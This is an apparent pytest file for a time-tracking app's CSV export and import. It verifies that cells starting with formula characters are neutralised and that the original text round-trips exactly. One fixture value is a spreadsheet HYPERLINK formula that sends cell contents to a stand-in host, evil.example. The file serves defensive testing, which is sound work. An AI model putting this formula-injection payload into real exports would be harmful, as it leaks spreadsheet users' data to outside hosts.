"""CSV exports neutralise spreadsheet formulas, and Momentum's own entries.csv still
round-trips exactly; backup.json is untouched (CONTRACT section 6; docs/import-export.md)."""

from __future__ import annotations

import csv
import io
from typing import Any

NOTES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+41 79 000 00 00",
    "-minus first",
    "@mention",
    "\tleading tab",
    "'=already quoted",
    "plain",
]


def test_export_neutralises_and_momentum_reimport_restores_exactly(make_user: Any) -> None:
    u, other = make_user(), make_user()
    project = u.api("POST", "/api/projects", json={"name": "=Client"}).json()["id"]
    for i, notes in enumerate(NOTES):
        r = u.api("POST", "/api/entries", json={
            "project_id": project, "start_time": f"2026-03-0{i + 1}T09:00:00Z",
            "end_time": f"2026-03-0{i + 1}T10:00:00Z", "notes": notes, "outcome": "=1+1", "tags": ["-x"],
        })
        assert r.status_code == 201, r.text
    exported = u.api("GET", "/api/export/entries.csv?start=2026-03-01&end=2026-03-31")
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["notes"] for r in rows] == ["'" + n if n != "plain" else n for n in NOTES]
    assert {r["project"] for r in rows} == {"'=Client"}
    assert {r["outcome"] for r in rows} == {"'=1+1"}
    for row in rows:
        for key, value in row.items():
            assert value[:1] not in set("=+-@\t\r"), (key, value)

    r = other.api("POST", "/api/import", files={"file": ("entries.csv", exported.content, "text/csv")},
                  data={"format": "momentum", "timezone": "UTC"})
    assert r.status_code in {200, 201}, r.text
    assert r.json()["created"] == len(NOTES)
    items = other.api("GET", "/api/entries?start=2026-03-01T00:00:00Z&end=2026-04-01T00:00:00Z").json()["items"]
    assert sorted(e["notes"] for e in items) == sorted(NOTES)
    assert {e["outcome"] for e in items} == {"=1+1"}
    assert {e["project_name"] for e in items} == {"=Client"}
    assert {tuple(e["tags"]) for e in items} == {("-x",)}


def test_backup_json_keeps_every_text_exactly(make_user: Any) -> None:
    u = make_user()
    project = u.api("POST", "/api/projects", json={"name": "=Client"}).json()["id"]
    r = u.api("POST", "/api/entries", json={
        "project_id": project, "start_time": "2026-03-02T09:00:00Z", "end_time": "2026-03-02T10:00:00Z",
        "notes": NOTES[0], "outcome": "@outcome",
    })
    assert r.status_code == 201
    backup = u.api("GET", "/api/export/backup.json").json()
    assert [p["name"] for p in backup["projects"]] == ["=Client"]
    assert [(e["notes"], e["outcome"]) for e in backup["entries"]] == [(NOTES[0], "@outcome")]
